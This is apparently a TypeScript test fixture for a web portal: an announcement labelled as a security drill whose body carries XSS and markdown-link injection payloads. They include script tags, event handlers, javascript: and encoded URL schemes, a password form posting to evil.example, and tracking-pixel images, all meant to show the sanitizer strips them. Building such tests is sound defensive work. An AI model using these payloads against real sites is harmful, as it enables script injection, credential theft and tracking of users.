import type { AnnouncementDocument } from './document';

/**
 * What an attacker who could write announcements would try. It stands among the others for good, so that everybody can
 * see that it does nothing; `window.securityDrill` would be set by whatever ran.
 */
const ATTACKS = [
  '## <script>window.securityDrill = 1</script>',
  '<script>window.securityDrill = 2</script>',
  'Text <script src="https://evil.example/x.js"></script> goes on <b onclick="window.securityDrill = 3">here</b>.',
  '<img src="x" onerror="window.securityDrill = 4">',
  '<svg onload="window.securityDrill = 5"><script>window.securityDrill = 6</script></svg>',
  '<iframe src="https://evil.example/" srcdoc="<script>parent.securityDrill = 7</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/steal"><input name="password" autofocus onfocus="window.securityDrill = 8"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<div style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/x.png)">cover</div>',
  '<details open ontoggle="window.securityDrill = 9"><summary>open</summary></details>',
  '<a href="javascript:window.securityDrill = 10">HTML link</a>',
  '<!-- <img src=x onerror="window.securityDrill = 11"> -->',
  '<math><mtext></p><img src=x onerror="window.securityDrill = 12"></mtext></math>',
];

const LINKS = [
  '[plain](javascript:window.securityDrill=20)',
  '[mixed case](JaVaScRiPt:window.securityDrill=21)',
  '[entities](&#106;avascript&colon;window.securityDrill=22)',
  '[hex entities](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;window.securityDrill=23)',
  '[tab inside](<java\tscript:window.securityDrill=24>)',
  '[leading control](<\u0001javascript:window.securityDrill=25>)',
  '[vbscript](vbscript:msgbox(1))',
  '[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuc2VjdXJpdHlEcmlsbD0yNjwvc2NyaXB0Pg==)',
  '[blob](blob:https://portal.example/1)',
  '[file](file:///etc/passwd)',
  '[another host](//evil.example/phish)',
  '[backslashes](/\\\\evil.example/phish)',
  '[a path that becomes a host](/.//evil.example/phish)',
  '[a name before the host](https://pay.example.com@evil.example/)',
  '[breaks out](https://evil.example/"onmouseover="window.securityDrill=27)',
  '[a title](https://evil.example/ "x\\" onmouseover=\\"window.securityDrill=28")',
  '<javascript:window.securityDrill=29>',
  '<data:text/html,hello>',
  '<https://evil.example/autolink>',
  '[reference][drill]',
];

const PICTURES = [
  '![script](javascript:window.securityDrill=40)',
  '![data](data:image/svg+xml,<svg/onload=window.securityDrill=41>)',
  '![a spy](https://evil.example/spy.png?who=me)',
  '![another spy](//evil.example/spy.png)',
  '![a hidden spy](/.//evil.example/spy.png)',
  '![an attribute" onerror="window.securityDrill=42](/favicon.svg)',
];

const list = (items: readonly string[]) => items.map((item) => `- ${item}`).join('\n');

const write = (heading: [string, string, string], opening: string, closing: string) =>
  [
    opening,
    `## ${heading[0]}`,
    ATTACKS.join('\n\n'),
    `## ${heading[1]}`,
    list(LINKS),
    `## ${heading[2]}`,
    list(PICTURES),
    '```"onmouseover="window.securityDrill=50\n<script>window.securityDrill = 51</script>\n```',
    '[drill]: javascript:window.securityDrill=30',
    closing,
  ].join('\n\n');

export const SECURITY_DRILL: AnnouncementDocument = {
  announcementId: '6901',
  category: '301',
  severity: 'info',
  publishedDaysAgo: 31,
  publishedHour: 13,
  title: {
    zh: '安全演练：这篇公告尝试运行恶意代码',
    en: 'Security drill: this announcement tries to run hostile code',
  },
  summary: {
    zh: '正文含脚本、恶意链接、框架和样式攻击，用于证明页面不会执行它们。',
    en: 'Its text holds scripts, hostile links, frames and style tricks, to show that none of them does anything.',
  },
  body: {
    zh: write(
      ['脚本、框架与样式', '链接', '图片'],
      '这是一篇**长期保留的测试公告**。下面每一行都是一种攻击尝试：它们应当消失，或者以普通文字出现。如果您看到弹窗、页面被遮挡或跳转，请立即联系我们。',
      '演练到此结束。看到这句话，说明页面安然无恙。',
    ),
    en: write(
      ['Scripts, frames and styles', 'Links', 'Pictures'],
      'This is a **test that stays here for good**. Every line below is an attempt at an attack: it should be gone, or stand there as plain words. If something pops up, covers the page or takes you elsewhere, please tell us at once.',
      'The drill ends here. If you can read this sentence, the page is unharmed.',
    ),
  },
};
